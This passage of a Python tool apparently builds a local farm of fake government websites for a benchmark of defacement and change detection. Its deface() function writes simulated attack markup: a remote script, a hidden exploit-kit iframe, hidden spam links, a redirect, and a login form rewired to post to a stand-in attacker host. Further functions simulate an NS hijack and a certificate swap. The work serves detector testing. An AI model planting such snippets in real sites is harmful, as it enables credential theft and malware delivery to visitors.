        os.kill(kp, signal.SIGTERM)
        deadline = time.monotonic() + timeout
        while pid_alive(kp) and time.monotonic() < deadline:
            time.sleep(0.02)
        if pid_alive(kp):
            os.kill(kp, signal.SIGKILL)
        stopped.append("keeper %d" % kp)
    # Whatever the keeper did not take down (it was SIGKILLed, or is wedged).
    for what in ("nginx", "nsd"):
        pid = read_pid(os.path.join(run, what + ".pid"))
        if ours(pid, d, what):
            try:
                os.killpg(pid, signal.SIGTERM)
            except (ProcessLookupError, PermissionError):
                os.kill(pid, signal.SIGTERM)
            deadline = time.monotonic() + 5
            while pid_alive(pid) and time.monotonic() < deadline:
                time.sleep(0.02)
            stopped.append("%s %d" % (what, pid))
        if pid:
            try:
                os.killpg(pid, signal.SIGKILL)  # orphaned nginx workers keep the group id
            except (ProcessLookupError, PermissionError):
                pass
    # Last resort: any process whose command line names this farm's files.
    for ent in os.listdir("/proc"):
        if not ent.isdigit():
            continue
        pid = int(ent)
        if pid == os.getpid():
            continue
        cmd = proc_cmdline(pid) or ""
        if any(_cmd_is(cmd, d, w) for w in ("keeper", "nginx", "nsd")):
            try:
                os.kill(pid, signal.SIGKILL)
                stopped.append("stray %d" % pid)
            except (ProcessLookupError, PermissionError):
                pass
    for f in ("keeper.pid", "nginx.pid", "nsd.pid"):
        try:
            os.unlink(os.path.join(run, f))
        except FileNotFoundError:
            pass
    return stopped


def running(d):
    d = resolve_dir(d)
    return ours(read_pid(os.path.join(d, "run", "keeper.pid")), d, "keeper")


def start(dir, sites, seed=1, http_port=0, https_port=0, dns_port=0, slow_port=0,
          watch_pid=None, ttl=0, slow_interval=5.0, access_log=False, dns_ttl=0,
          timeout=60.0):
    """Generate the farm in dir and start its servers; returns farm.json's dict.

    watch_pid: the farm stops itself when this process exits (default: the
    calling process when used as a module; 0 for never). ttl: seconds after
    which it stops itself (0: never)."""
    t0 = time.monotonic()
    d = resolve_dir(dir)
    n = int(sites)
    if n < 1 or n > 99999:
        raise FarmError("--sites must be between 1 and 99999")
    for b in (NGINX, NSD):
        if not os.access(b, os.X_OK):
            raise FarmError("%s is not installed (need nginx-light and nsd)" % b)
    if shutil.which(OPENSSL) is None:
        raise FarmError("openssl is not installed")
    os.makedirs(d, exist_ok=True)
    if running(d):
        raise FarmError("a farm is already running in %s (farm.py stop --dir %s)" % (d, d))
    _kill_leftovers(d)
    if watch_pid is None:
        watch_pid = os.getpid()
    # Fresh content: move the old tree aside (fast) and delete it after start.
    trash = []
    for sub in ("sites", "orig", "flags", "dns"):
        p = os.path.join(d, sub)
        if os.path.exists(p):
            t = os.path.join(d, ".old-%s-%d-%d" % (sub, os.getpid(), time.time_ns()))
            os.rename(p, t)
            trash.append(t)
    for sub in ("sites", "orig", "flags", "logs", "run", "nginx", "dns"):
        os.makedirs(os.path.join(d, sub), exist_ok=True)
    for f in ("farm.json",):
        try:
            os.unlink(os.path.join(d, f))
        except FileNotFoundError:
            pass
    base = datetime.date(2024, 1, 1) + datetime.timedelta(days=random.Random(seed).randint(0, 700))
    sites_dir = os.path.join(d, "sites")
    nver = nginx_version()
    profiles = []
    verbose = []
    dns_sites = []
    posture = {}
    write_shared(d)
    _write_sites(sites_dir, seed, n, base)
    for i in range(1, n + 1):
        p = profile(seed, i)
        name = site_name(i)
        profiles.append((name, p["headers"]))
        if p["server_version"]:
            verbose.append(name)
        dns_sites.append((name, p["caa"]))
        posture[name] = posture_of(p, nver)
    write_bad_sites(sites_dir, seed)
    for label in BAD_SITES:
        dns_sites.append((bad_name(label), "letsencrypt.org"))
    profiles.append((bad_name("bad-huge"), "1"))
    verbose.append(bad_name("bad-binary"))
    t_gen = time.monotonic() - t0
    ca = ensure_tls(d)
    ipv6 = ipv6_loopback()
    ports = choose_ports({"http_port": http_port, "https_port": https_port,
                          "dns_port": dns_port, "slow_port": slow_port}, ipv6)
    cfg = dict(ports)
    cfg.update({"ipv6": ipv6, "watch_pid": int(watch_pid or 0), "ttl": int(ttl or 0),
                "started": time.time(), "slow_interval": float(slow_interval),
                "access_log": bool(access_log), "dns_ttl": int(dns_ttl), "seed": seed, "sites": n})
    if cfg["watch_pid"]:
        if not pid_alive(cfg["watch_pid"]):
            raise FarmError("--watch-pid %d is not a running process" % cfg["watch_pid"])
        cfg["watch_start"] = proc_starttime(cfg["watch_pid"])
    write_nginx_conf(d, cfg, profiles, verbose)
    write_dns_conf(d, cfg, dns_sites)
    write_atomic(os.path.join(d, "posture.json"), json.dumps(posture, ensure_ascii=False, separators=(",", ":")).encode())
    write_atomic(os.path.join(d, "run", "config.json"), json.dumps(cfg, indent=1).encode())
    for f in ("keeper.out", "nginx.out", "nsd.out", "nginx-error.log", "nsd.log"):
        try:
            os.unlink(os.path.join(d, "logs", f))
        except FileNotFoundError:
            pass
    # The keeper: its own session, no inherited stdio (a caller reading our
    # stdout to EOF must not wait for it).
    klog = open(os.path.join(d, "logs", "keeper.out"), "ab")
    kp = subprocess.Popen([sys.executable, HERE, "_keeper", "--dir", d], stdin=subprocess.DEVNULL,
                          stdout=klog, stderr=klog, start_new_session=True, cwd=d)
    klog.close()
    farm = {
        "version": FORMAT_VERSION,
        "dir": d,
        "seed": seed,
        "domain": DOMAIN,
        "ip": LOOPBACK,
        "ipv6": ipv6,
        "http_port": ports["http_port"],
        "https_port": ports["https_port"],
        "dns_port": ports["dns_port"],
        "dns_server": "%s:%d" % (LOOPBACK, ports["dns_port"]),
        "slow_port": ports["slow_port"],
        "pids": {"keeper": kp.pid},
        "ca_file": ca,
        "url_template": "http://{site}:%d/" % ports["http_port"],
        "https_url_template": "https://{site}:%d/" % ports["https_port"],
        "curl_connect_to": "::%s:" % LOOPBACK,
        "nameservers": NAMESERVERS,
        "posture_file": os.path.join(d, "posture.json"),
        "watch_pid": cfg["watch_pid"],
        "ttl": cfg["ttl"],
        "started": datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ"),
        "bad_sites": {bad_name(x): (("http://%s:%d/" % (bad_name(x), ports["slow_port"])) if x == "bad-slow"
                                    else "http://%s:%d/" % (bad_name(x), ports["http_port"]))
                      for x in BAD_SITES},
        "sites": [site_name(i) for i in range(1, n + 1)],
    }
    # Wait until nginx (HTTP and HTTPS), NSD and the slow port answer.
    deadline = time.monotonic() + timeout
    first, last = site_name(1), site_name(n)
    pending = {"http", "https", "dns", "slow"}
    while pending:
        if kp.poll() is not None:
            raise FarmError("the farm's keeper exited (status %s):\n%s" % (kp.returncode, _tail_logs(d)))
        for what in list(pending):
            try:
                if what == "http" and http_get(farm, first, timeout=2)[0] == 200:
                    pending.discard(what)
                elif what == "https" and http_get(farm, last, https=True, timeout=2)[0] == 200:
                    pending.discard(what)
                elif what == "dns" and dns_query(ports["dns_port"], last, "A", timeout=0.5)[1] == [LOOPBACK]:
                    pending.discard(what)
                elif what == "slow":
                    socket.create_connection((LOOPBACK, ports["slow_port"]), timeout=1).close()
                    pending.discard(what)
            except (OSError, http.client.HTTPException, ValueError, IndexError, struct.error):
                pass
            if what in pending and ("nginx" in procs_dead(d) and what in ("http", "https")
                                    or "nsd" in procs_dead(d) and what == "dns"):
                _kill_leftovers(d)
                raise FarmError("%s failed to start:\n%s" % (what, _tail_logs(d)))
        if not pending:
            break
        if time.monotonic() > deadline:
            _kill_leftovers(d)
            raise FarmError("the farm did not come up within %d s (waiting for %s):\n%s"
                            % (timeout, ", ".join(sorted(pending)), _tail_logs(d)))
        time.sleep(0.02)
    farm["pids"]["nginx"] = read_pid(os.path.join(d, "run", "nginx.pid"))
    farm["pids"]["nsd"] = read_pid(os.path.join(d, "run", "nsd.pid"))
    farm["start_seconds"] = round(time.monotonic() - t0, 2)
    farm["generate_seconds"] = round(t_gen, 2)
    write_atomic(os.path.join(d, "farm.json"), json.dumps(farm, indent=1).encode())
    if trash:  # the previous run's tree: delete it in the background, gently
        subprocess.Popen(["nice", "-n", "19", "rm", "-rf", "--"] + trash, stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    return farm


def procs_dead(d):
    """Names of servers whose pid file exists but whose process is gone."""
    dead = []
    for what in ("nginx", "nsd"):
        path = os.path.join(d, "run", what + ".pid")
        pid = read_pid(path)
        if pid and not pid_alive(pid):
            dead.append(what)
    return dead


def _tail_logs(d):
    out = []
    for f in ("keeper.out", "nginx.out", "nginx-error.log", "nsd.out", "nsd.log"):
        p = os.path.join(d, "logs", f)
        try:
            with open(p, "rb") as fh:
                data = fh.read()[-2000:].decode("utf-8", "replace").strip()
        except OSError:
            continue
        if data:
            out.append("--- %s\n%s" % (p, data))
    return "\n".join(out) or "(no logs)"


def stop(dir):
    """Stop every process of the farm in dir. Idempotent; returns what was stopped."""
    d = resolve_dir(dir)
    if not os.path.isdir(d):
        return []
    return _kill_leftovers(d)


def urls(dir, https=False, limit=None, bad=False):
    farm = load(dir)
    tpl = farm["https_url_template"] if https else farm["url_template"]
    out = [tpl.format(site=s) for s in farm["sites"]]
    if limit is not None:
        out = out[:int(limit)]
    if bad:
        for name, url in farm["bad_sites"].items():
            if https and not name.startswith("bad-slow."):
                url = farm["https_url_template"].format(site=name)
            out.append(url)
    return out


ATTACKERS = {
    "script": "js.attacker.test",
    "iframe": "frame.attacker.test",
    "redirect": "go.attacker.test",
    "form": "login.attacker.test",
}

SEO_HOSTS = ["royal-casino-bet.test", "best-online-casino.test", "poker-win-365.test",
             "cheap-viagra-pharmacy.test", "cialis-online-store.test", "replica-watches-sale.test",
             "bet-forward-fa.test", "pharma-discount-rx.test", "slot-machine-bonus.test",
             "kasino-irani.test"]
SEO_WORDS = ["online casino", "best casino bonus", "buy viagra online", "cheap cialis", "poker bonus",
             "sports betting", "بازی انفجار", "سایت شرط بندی", "کازینو آنلاین", "free spins",
             "replica watches", "payday loans"]


def _snapshot(d, site):
    orig = os.path.join(d, "orig", site)
    if not os.path.exists(orig):
        tmp = orig + ".tmp"
        shutil.rmtree(tmp, ignore_errors=True)
        shutil.copytree(os.path.join(d, "sites", site), tmp, symlinks=True)
        os.rename(tmp, orig)


def _insert_after_body(html, snippet):
    m = re.search(r"<body[^>]*>", html, re.I)
    if not m:
        return snippet + html
    return html[:m.end()] + "\n" + snippet + html[m.end():]


def _insert_before(html, tag, snippet):
    k = html.lower().rfind(tag)
    if k < 0:
        return html + snippet
    return html[:k] + snippet + html[k:]


def deface(dir, site, kind, lang="en", by="Shadow Team", attacker=None):
    """Deface site's index.html; the original is kept for restore()."""
    d = resolve_dir(dir)
    site = site_arg(d, site)
    if kind not in KINDS:
        raise FarmError("unknown kind %r (one of %s)" % (kind, ", ".join(KINDS)))
    if lang not in ("en", "fa"):
        raise FarmError("--lang must be en or fa")
    path = os.path.join(d, "sites", site, "index.html")
    with open(path, "rb") as f:
        html = f.read().decode("utf-8", "surrogateescape")
    _snapshot(d, site)
    byh = html_escape(by)
    host = attacker or ATTACKERS.get(kind, "attacker.test")
    if kind == "full":
        if lang == "fa":
            html = ('<!DOCTYPE html>\n<html lang="fa" dir="rtl"><head><meta charset="utf-8">'
                    '<title>هک شده توسط %s</title></head>\n'
                    '<body style="background:#000;color:#0f0;text-align:center;font-family:Tahoma">\n'
                    '<h1>هک شده توسط %s</h1>\n<h2>Hacked by %s</h2>\n'
                    '<p>امنیت شما صفر است. ما همه جا هستیم.</p>\n'
                    '<p>این سایت توسط تیم ما هک شد. مدیر سایت: امنیت را جدی بگیرید!</p>\n'
                    '<p>تلگرام: @%s_team</p>\n</body></html>\n' % (byh, byh, byh, re.sub(r"\W", "", by).lower()))
        else:
            html = ('<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Hacked by %s</title></head>\n'
                    '<body style="background:#000;color:#0f0;text-align:center;font-family:monospace">\n'
                    '<h1>Hacked by %s</h1>\n<p>Your security is zero. We are everywhere.</p>\n'
                    '<p>Greetz to all members. Admin, patch your server!</p>\n'
                    '<p>contact: %s@protonmail.test</p>\n</body></html>\n' % (byh, byh, re.sub(r"\W", "", by).lower()))
    elif kind == "partial":
        text = ("هک شده توسط %s — امنیت شما صفر است" % byh) if lang == "fa" else ("Hacked by %s — your security is zero" % byh)
        banner = ('<div id="hk" style="position:relative;z-index:99999;background:#000;color:#f00;'
                  'text-align:center;font-size:28px;padding:12px">%s</div>\n' % text)
        html = _insert_after_body(html, banner)
    elif kind == "script":
        html = _insert_before(html, "</head>", '<script src="https://%s/js/jquery.min.js?v=3.7.1"></script>\n' % host)
    elif kind == "iframe":
        html = _insert_before(html, "</body>",
                              '<iframe src="http://%s/ek/landing.php?id=%s" width="1" height="1" frameborder="0" '
                              'style="visibility:hidden;position:absolute;left:-9999px"></iframe>\n' % (host, site))
    elif kind == "seo":
        r = random.Random(site)
        links = "".join('<a href="https://%s/%s">%s</a>\n' % (
            r.choice(SEO_HOSTS) if attacker is None else attacker, r.choice(["bonus", "buy", "go", "promo", "fa"]),
            r.choice(SEO_WORDS)) for _ in range(40))
        html = _insert_before(html, "</body>", '<div style="display:none">\n%s</div>\n' % links)
    elif kind == "redirect":
        html = ('<!DOCTYPE html>\n<html><head><meta charset="utf-8">'
                '<meta http-equiv="refresh" content="0;url=https://%s/">\n'
                '<script>window.location.replace("https://%s/?from=" + location.hostname);</script>\n'
                '<title>Redirecting</title></head><body><a href="https://%s/">Redirecting...</a></body></html>\n'
                % (host, host, host))
    elif kind == "form":
        new, k = re.subn(r'(<form id="login-form" action=)"[^"]*"', r'\1"https://%s/collect.php"' % host, html, count=1)
        if k == 0:
            new, k = re.subn(r'(<form[^>]*action=)"[^"]*"', r'\1"https://%s/collect.php"' % host, html, count=1)
        if k == 0:
            raise FarmError("%s has no form to hijack" % site)
        html = new
    write_atomic(path, html.encode("utf-8", "surrogateescape"))
    return {"site": site, "kind": kind}


def restore(dir, site):
    """Put back the site exactly as it was before the first deface()."""
    d = resolve_dir(dir)
    site = site_arg(d, site)
    orig = os.path.join(d, "orig", site)
    if not os.path.isdir(orig):
        return {"site": site, "restored": False}  # not defaced: nothing to do
    live = os.path.join(d, "sites", site)
    tmp = live + ".restore"
    shutil.rmtree(tmp, ignore_errors=True)
    shutil.copytree(orig, tmp, symlinks=True)
    old = live + ".old"
    shutil.rmtree(old, ignore_errors=True)
    os.rename(live, old)
    os.rename(tmp, live)
    shutil.rmtree(old, ignore_errors=True)
    shutil.rmtree(orig, ignore_errors=True)
    return {"site": site, "restored": True}


UPDATE_FA = ["برگزاری نشست شورای هماهنگی با حضور مدیران استانی",
             "اطلاعیه درباره زمان‌بندی جدید ارائه خدمات حضوری",
             "تقدیر از همکاران برگزیده در جشنواره شهید رجایی",
             "آغاز ثبت‌نام دوره‌های آموزشی ضمن خدمت کارکنان"]
UPDATE_EN = ["Coordination council meets with provincial managers",
             "New schedule for in-person services announced",
             "Outstanding staff honoured at the annual festival",
             "Registration opens for in-service training courses"]


def update(dir, site, today=None):
    """A benign change: a news item dated today and the next banner."""
    d = resolve_dir(dir)
    site = site_arg(d, site)
    root = os.path.join(d, "sites", site)
    path = os.path.join(root, "index.html")
    with open(path, "rb") as f:
        html = f.read().decode("utf-8", "surrogateescape")
    if "<!-- news:begin -->" not in html:
        raise FarmError("%s has no news list to update" % site)
    today = today or datetime.date.today()
    cnt = len(re.findall(r'class="news-item farm-update"', html))
    fa = 'lang="fa"' in html[:300]
    if fa:
        head, shown = UPDATE_FA[cnt % len(UPDATE_FA)], fa_date(today)
        summ = SUMMARY_FA[cnt % len(SUMMARY_FA)].format(n=fa_num(60 + cnt))
    else:
        head, shown = UPDATE_EN[cnt % len(UPDATE_EN)], today.strftime("%d %B %Y")
        summ = SUMMARY_EN[cnt % len(SUMMARY_EN)].format(n=60 + cnt)
    item = ('<li class="news-item farm-update"><time datetime="%s">%s</time> '
            '<a href="/news.html#u%d">%s</a><p class="summary">%s</p></li>\n'
            % (today.isoformat(), shown, cnt, head, summ))
    html = html.replace("<!-- news:begin -->\n", "<!-- news:begin -->\n" + item, 1)
    m = re.search(r'data-banner="(\d+)"', html)
    if m:
        b = (int(m.group(1)) + 1) % len(BANNERS)
        html = re.sub(r'class="banner banner-\d+" id="banner" data-banner="\d+"',
                      'class="banner banner-%d" id="banner" data-banner="%d"' % (b, b), html, count=1)
        html = re.sub(r'<span class="banner-caption">[^<]*</span>',
                      '<span class="banner-caption">%s &middot; %s</span>' % BANNERS[b], html, count=1)
    write_atomic(path, html.encode("utf-8", "surrogateescape"))
    news = os.path.join(root, "news.html")
    if os.path.exists(news):
        with open(news, "rb") as f:
            nh = f.read().decode("utf-8", "surrogateescape")
        write_atomic(news, nh.replace("<!-- news:begin -->\n", "<!-- news:begin -->\n" + item, 1)
                     .encode("utf-8", "surrogateescape"))
    return {"site": site, "date": today.isoformat()}


# ---------------------------------------------------------------------------
# Third-party additions and churn (the benchmark's third pass)

# The third-party content governments add every week, each in the markup
# its vendor publishes: video and map embeds in the page body, analytics
# tags in the head or at the end of the body. Judged as ordinary changes by
# a good watch (they are not attacks); the bench's churn pass adds them.
THIRD_PARTY = ["youtube", "maps", "gtag", "vimeo", "matomo", "aparat", "cloudflare"]


def thirdparty(dir, site, kind):
    """Add a third-party embed or tag of kind (THIRD_PARTY) to site's index.html."""
    d = resolve_dir(dir)
    site = site_arg(d, site)
    if kind not in THIRD_PARTY:
        raise FarmError("unknown third-party kind %r (one of %s)" % (kind, ", ".join(THIRD_PARTY)))
    path = os.path.join(d, "sites", site, "index.html")
    with open(path, "rb") as f:
        html = f.read().decode("utf-8", "surrogateescape")
    r = random.Random("%s:%s" % (site, kind))
    vid = "".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-") for _ in range(11))
    if kind == "youtube":
        snippet = ('<div class="video"><iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/%s" '
                   'title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; clipboard-write; '
                   'encrypted-media; gyroscope; picture-in-picture; web-share" allowfullscreen></iframe></div>\n' % vid)
    elif kind == "vimeo":
        snippet = ('<div class="video"><iframe src="https://player.vimeo.com/video/%d?h=%s" width="640" height="360" '
                   'frameborder="0" allow="autoplay; fullscreen; picture-in-picture" allowfullscreen></iframe></div>\n'
                   % (r.randint(100000000, 999999999), vid[:10].lower()))
    elif kind == "aparat":
        snippet = ('<div class="h_iframe-aparat_embed_frame"><iframe src="https://www.aparat.com/video/video/embed/'
                   'videohash/%s/vt/frame" allowFullScreen="true" webkitallowfullscreen="true" '
                   'mozallowfullscreen="true" width="640" height="360"></iframe></div>\n' % vid[:5].lower())
    elif kind == "maps":
        snippet = ('<div class="map"><iframe src="https://www.google.com/maps/embed?pb=!1m18!1m12!1m3!1d3240.%d'
                   '!2d51.%d!3d35.%d!2m3!1f0!2f0!3f0!3m2!1i1024!2i768!4f13.1!3m3!1m2!1s0x0%%3A0x0!2z!5e0!3m2!1sfa!2sir'
                   '!4v1700000000000" width="600" height="450" style="border:0;" allowfullscreen="" loading="lazy" '
                   'referrerpolicy="no-referrer-when-downgrade"></iframe></div>\n'
                   % (r.randint(1000, 9999), r.randint(100000, 999999), r.randint(100000, 999999)))
    elif kind == "gtag":
        gid = "G-" + "".join(r.choice("ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") for _ in range(10))
        snippet = ('<!-- Google tag (gtag.js) -->\n<script async src="https://www.googletagmanager.com/gtag/js?id=%s">'
                   '</script>\n<script>\n  window.dataLayer = window.dataLayer || [];\n'
                   '  function gtag(){dataLayer.push(arguments);}\n  gtag(\'js\', new Date());\n\n'
                   '  gtag(\'config\', \'%s\');\n</script>\n' % (gid, gid))
    elif kind == "matomo":
        snippet = ('<!-- Matomo -->\n<script>\n  var _paq = window._paq = window._paq || [];\n'
                   '  _paq.push([\'trackPageView\']);\n  _paq.push([\'enableLinkTracking\']);\n'
                   '  (function() {\n    var u="https://stats.%s/";\n'
                   '    _paq.push([\'setTrackerUrl\', u+\'matomo.php\']);\n    _paq.push([\'setSiteId\', \'%d\']);\n'
                   '    var d=document, g=d.createElement(\'script\'), s=d.getElementsByTagName(\'script\')[0];\n'
                   '    g.async=true; g.src=u+\'matomo.js\'; s.parentNode.insertBefore(g,s);\n  })();\n</script>\n'
                   '<!-- End Matomo Code -->\n' % (site, r.randint(1, 400)))
    else:  # cloudflare
        snippet = ('<!-- Cloudflare Web Analytics --><script defer src=\'https://static.cloudflareinsights.com/'
                   'beacon.min.js\' data-cf-beacon=\'{"token": "%032x"}\'></script>'
                   '<!-- End Cloudflare Web Analytics -->\n' % r.getrandbits(128))
    if kind == "gtag":
        html = _insert_before(html, "</head>", snippet)
    elif kind in ("matomo", "cloudflare"):
        html = _insert_before(html, "</body>", snippet)
    else:  # an embed sits in the content, above the footer
        html = _insert_before(html, "<footer", snippet) if "<footer" in html else _insert_before(html, "</body>", snippet)
    write_atomic(path, html.encode("utf-8", "surrogateescape"))
    return {"site": site, "kind": kind}


def churn(dir, fraction=0.2, third=0.25, attack=0.01, round_no=1, today=None):
    """A week of change over the farm, for the bench's churn pass: the sites
    the previous round attacked are restored, then a fraction of the sites
    (chosen by round_no, the same for the same round) get a news item and
    the next banner; a third of those (the fraction third) also a
    third-party embed or tag; and attack times all the sites (at least
    one, when attack > 0), taken from the changed ones and disjoint from
    the third-party ones, are defaced, every kind in turn. Returns what was
    done, with the lists of sites."""
    d = resolve_dir(dir)
    sites = load(d)["sites"]
    restored = [s for s in sorted(os.listdir(os.path.join(d, "orig"))) if not s.endswith(".tmp")] if os.path.isdir(os.path.join(d, "orig")) else []
    for s in restored:
        restore(d, s)
    n = len(sites)
    k = min(n, int(round(n * fraction)))
    na = min(k, max(1, int(round(n * attack)))) if attack > 0 else 0
    nt = min(k - na, int(round(k * third)))
    chosen = random.Random("churn:%d" % round_no).sample(sites, k)
    attacked, tp = chosen[:na], chosen[na:na + nt]
    for s in chosen:
        update(d, s, today)
    kinds = {}
    for i, s in enumerate(tp):
        kd = THIRD_PARTY[(i + round_no) % len(THIRD_PARTY)]
        thirdparty(d, s, kd)
        kinds[kd] = kinds.get(kd, 0) + 1
    akinds = {}
    for i, s in enumerate(attacked):
        kd = KINDS[(i + round_no) % len(KINDS)]
        deface(d, s, kd, lang="fa" if i % 2 else "en")
        akinds[kd] = akinds.get(kd, 0) + 1
    return {"round": round_no, "sites": n, "changed": k, "news": k, "third_party": nt, "attacks": na,
            "restored": len(restored), "third_party_kinds": kinds, "attack_kinds": akinds,
            "attacked": sorted(attacked), "third_party_sites": sorted(tp)}

def down(dir, site, mode="503"):
    """503: 'Service Unavailable'; close: connection closed without an answer
    (nginx 444); hang: the request is accepted and never answered."""
    d = resolve_dir(dir)
    site = site_arg(d, site)
    if mode not in DOWN_MODES:
        raise FarmError("--mode must be one of %s" % ", ".join(DOWN_MODES))
    flags = os.path.join(d, "flags")
    os.makedirs(flags, exist_ok=True)
    ext = {"503": "down", "close": "close", "hang": "hang"}[mode]
    for e in ("down", "close", "hang"):
        if e != ext:
            try:
                os.unlink(os.path.join(flags, "%s.%s" % (site, e)))
            except FileNotFoundError:
                pass
    with open(os.path.join(flags, "%s.%s" % (site, ext)), "w") as f:
        f.write(mode + "\n")
    return {"site": site, "mode": mode}


def up(dir, site):
    d = resolve_dir(dir)
    site = site_arg(d, site)
    for e in ("down", "close", "hang"):
        try:
            os.unlink(os.path.join(d, "flags", "%s.%s" % (site, e)))
        except FileNotFoundError:
            pass
    return {"site": site}


def _valid_host(h):
    return re.fullmatch(r"(?=.{1,253}$)([a-z0-9_]([a-z0-9_-]{0,61}[a-z0-9_])?\.)*[a-z0-9_]([a-z0-9_-]{0,61}[a-z0-9_])?\.?",
                        h, re.I) is not None


def dns_set(dir, site, rtype, value, wait=5.0):
    """Change a site's DNS: comma-separated values, or '-' for none. A/AAAA
    addresses; NS hosts (the site's zone and the delegation in gov.test);
    MX as 'host' or 'prio:host'; CAA as 'ca' or 'tag value' ('!tag': the
    critical flag). The zone file is rewritten and NSD reloads it on SIGHUP
    (a fraction of a second, no gap); returns once the new answer is served."""
    d = resolve_dir(dir)
    site = site_arg(d, site)
    rtype = rtype.upper()
    vals = [] if value.strip() in ("-", "") else [v.strip() for v in value.split(",") if v.strip()]
    dd = os.path.join(d, "dns")
    with open(os.path.join(dd, ".lock"), "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)  # one read-modify-write of the zone files at a time
        _dns_set_locked(d, site, rtype, vals, wait)
    return {"site": site, "type": rtype, "values": vals}


def _rewrite_zone(d, zone, recs_fn, extra_fn=None):
    """Read a zone file, let recs_fn change its apex records (and extra_fn
    its other lines), write it back with the serial bumped."""
    path = os.path.join(d, "dns", "zones", zone + ".zone")
    serial, recs, extra = read_zone(path)
    recs_fn(recs)
    if extra_fn:
        extra = extra_fn(extra)
    write_atomic(path, zone_text(zone, serial + 1, run_config(d).get("dns_ttl", 0), recs, extra).encode())


def _nsd_reload(d):
    pid = read_pid(os.path.join(d, "run", "nsd.pid"))
    if ours(pid, d, "nsd"):
        os.kill(pid, signal.SIGHUP)


def _dns_set_locked(d, site, rtype, vals, wait):
    if rtype in ("A", "AAAA"):
        fam = socket.AF_INET if rtype == "A" else socket.AF_INET6
        for v in vals:
            try:
                socket.inet_pton(fam, v)
            except OSError:
                raise FarmError("%r is not an IPv%s address" % (v, "4" if rtype == "A" else "6"))
        new = list(vals)
    elif rtype == "NS":
        for v in vals:
            if not _valid_host(v):
                raise FarmError("%r is not a host name" % v)
        new = [v.rstrip(".") + "." for v in vals]
    elif rtype == "MX":
        new = []
        for v in vals:
            prio, _, host = v.rpartition(":")
            if not _valid_host(host) or (prio and not prio.isdigit()):
                raise FarmError("%r is not an MX (host or prio:host)" % v)
            new.append("%s %s." % (prio or "10", host.rstrip(".")))
    elif rtype == "CAA":
        new = [caa_rr(v) for v in vals]
    else:
        raise FarmError("record type must be A, AAAA, NS, MX or CAA")

    def set_recs(recs):
        recs[rtype] = new
    _rewrite_zone(d, site, set_recs)
    if rtype == "NS":
        # the parent's side of the delegation moves too (a registry hijack)
        def set_delegation(extra):
            return [ln for ln in extra if ln.split()[0] != site + "."] + ["%s. NS %s" % (site, h) for h in new]
        _rewrite_zone(d, DOMAIN, lambda recs: None, set_delegation)
    _nsd_reload(d)
    # Wait until the server answers with the new data; SIGHUP again now and
    # then in case a signal came while a reload was already running.
    if running(d) and wait:
        port = run_config(d)["dns_port"]
        want = sorted(_norm_rr(rtype, v) for v in vals)
        deadline = time.monotonic() + wait
        resend = time.monotonic() + 0.5
        while True:
            try:
                _, ans = dns_query(port, site, rtype, timeout=0.5)
                if sorted(_norm_rr(rtype, a) for a in ans) == want:
                    break
            except (OSError, struct.error, IndexError, ValueError):
                pass
            now = time.monotonic()
            if now > deadline:
                raise FarmError("NSD does not answer the new %s of %s after %.0f s:\n%s"
                                % (rtype, site, wait, _tail_logs(d)))
            if now > resend:
                resend = now + 0.5
                _nsd_reload(d)
            time.sleep(0.02)


def _norm_rr(rtype, v):
    """One value, as given to dns_set or as dns_query returns it, in one form."""
    v = v.strip()
    if rtype in ("A", "AAAA"):
        fam = socket.AF_INET if rtype == "A" else socket.AF_INET6
        return socket.inet_ntop(fam, socket.inet_pton(fam, v))
    if rtype == "NS":
        return v.lower().rstrip(".")
    if rtype == "MX":
        parts = v.split()
        if len(parts) == 2:  # '10 host' from dns_query
            return "%d:%s" % (int(parts[0]), parts[1].lower().rstrip("."))
        prio, _, host = v.rpartition(":")
        return "%d:%s" % (int(prio or 10), host.lower().rstrip("."))
    m = re.fullmatch(r'(\d+) (\S+) "(.*)"', v)  # CAA from dns_query
    if m:
        return "%s:%s:%s" % m.groups()
    parts = v.split(None, 1)
    tag, val = (parts[0], parts[1]) if len(parts) == 2 else ("issue", parts[0])
    return "%d:%s:%s" % (128 if tag.startswith("!") else 0, tag.lstrip("!"), val)


def status(dir):
    d = resolve_dir(dir)
    run = os.path.join(d, "run")
    procs = {}
    for what in ("keeper", "nginx", "nsd"):
        pid = read_pid(os.path.join(run, what + ".pid"))
        procs[what] = {"pid": pid, "running": ours(pid, d, what)}
    flags = {}
    if os.path.isdir(os.path.join(d, "flags")):
        for f in sorted(os.listdir(os.path.join(d, "flags"))):
            site, _, ext = f.rpartition(".")
            flags[site] = {"down": "503", "close": "close", "hang": "hang"}.get(ext, ext)
    defaced = sorted(x for x in os.listdir(os.path.join(d, "orig"))) if os.path.isdir(os.path.join(d, "orig")) else []
    return {"dir": d, "processes": procs, "down": flags, "defaced": defaced}


# ---------------------------------------------------------------------------
# Certificate swap (an attacker's certificate for the farm's names)

def _served_cert(d, timeout=5.0):
    farm = load(d)
    port = farm["https_port"]
    deadline = time.monotonic() + timeout
    while True:
        try:
            ctx = ssl.create_default_context()
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            with socket.create_connection((LOOPBACK, port), timeout=2) as sk:
                with ctx.wrap_socket(sk, server_hostname="s00001." + DOMAIN) as tls:
                    return tls.getpeercert(binary_form=True)
        except OSError:
            if time.monotonic() > deadline:
                raise
            time.sleep(0.05)


def _reload_nginx(d, want_der):
    pid = read_pid(os.path.join(d, "run", "nginx.pid"))
    if not ours(pid, d, "nginx"):
        raise FarmError("nginx is not running")
    os.kill(pid, signal.SIGHUP)
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        if _served_cert(d) == want_der:
            return
        time.sleep(0.05)
    raise FarmError("nginx did not load the new certificate")


def _pem_der(path):
    with open(path) as f:
        pem = f.read()
    return ssl.PEM_cert_to_DER_cert(pem[pem.index("-----BEGIN CERTIFICATE-----"):])


def cert_swap(dir, issuer="Shadow Team CA"):
    """Serve, for every https site, a certificate for *.gov.test issued by
    another CA with another key: what an attacker who took over the name or
